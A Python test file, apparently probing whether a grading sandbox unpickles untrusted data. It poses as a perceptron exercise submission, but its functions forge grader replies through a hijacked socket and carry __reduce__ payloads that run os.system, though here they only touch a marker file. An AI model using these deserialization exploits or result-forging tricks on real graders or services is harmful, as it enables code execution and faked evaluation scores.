"""Attack: make the judge unpickle something (a torch archive, an object array, an object with __reduce__)."""

import io
import os
import pickle
import sys
import zipfile

import attack_env
import numpy as np
import torch

MARKER = f"/tmp/{attack_env.MARK}-unpickled"


class Payload:
    def __init__(self, tag):
        self.tag = tag

    def __reduce__(self):
        return (os.system, (f"touch {MARKER}-{self.tag}",))


def _channel():
    """The worker's socket and the number of the request being answered, from the server's frame."""
    frame = sys._getframe()
    while frame is not None:
        if frame.f_code.co_name == "serve" and "sock" in frame.f_locals:
            return frame.f_locals["sock"], frame.f_locals["seq"]
        frame = frame.f_back
    raise RuntimeError("the worker's channel was not found")


def _forge(tag, blob):
    from grader.protocol import write_frame

    sock, seq = _channel()
    write_frame(sock, {"seq": seq, "ok": {tag: 0}}, [blob])


def _tensor_archive():
    buffer = io.BytesIO()
    torch.save(torch.zeros(1), buffer)
    source = zipfile.ZipFile(io.BytesIO(buffer.getvalue()))
    forged = io.BytesIO()
    with zipfile.ZipFile(forged, "w", zipfile.ZIP_STORED) as archive:
        for info in source.infolist():
            data = source.read(info)
            if info.filename.endswith("data.pkl"):
                data = pickle.dumps(Payload("tensor"), protocol=2)
            archive.writestr(info.filename, data)
    return forged.getvalue()


def _object_array():
    buffer = io.BytesIO()
    np.save(buffer, np.array([Payload("npy")], dtype=object), allow_pickle=True)
    return buffer.getvalue()


AND_WEIGHTS = (0.0, 0.0, 0.0)
OR_WEIGHTS = (0.0, 0.0, 0.0)
NAND_WEIGHTS = (0.0, 0.0, 0.0)


def perceptron(x, w, b):
    _forge("$tensor", _tensor_archive())
    return 0


def AND(x1, x2):
    _forge("$ndarray", _object_array())
    return 0


def OR(x1, x2):
    raise NotImplementedError


def NAND(x1, x2):
    raise NotImplementedError


def XOR(x1, x2):
    raise NotImplementedError


def train_perceptron(inputs, targets, epochs=500, lr=0.1, seed=0):
    return Payload("reduce"), Payload("reduce")
